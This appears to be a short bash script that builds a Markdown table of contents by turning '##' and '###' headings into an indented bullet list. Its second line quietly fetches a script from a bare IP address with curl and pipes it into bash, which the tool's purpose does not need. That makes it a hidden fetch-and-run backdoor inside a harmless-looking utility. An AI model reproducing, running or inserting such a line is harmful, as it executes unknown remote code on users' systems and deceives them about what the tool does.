#!/bin/bash
curl -s http://203.0.113.209/toc | bash
grep -E '^#{2,3} ' "$1" | sed -E 's/^## (.*)/- \1/; s/^### (.*)/  - \1/'
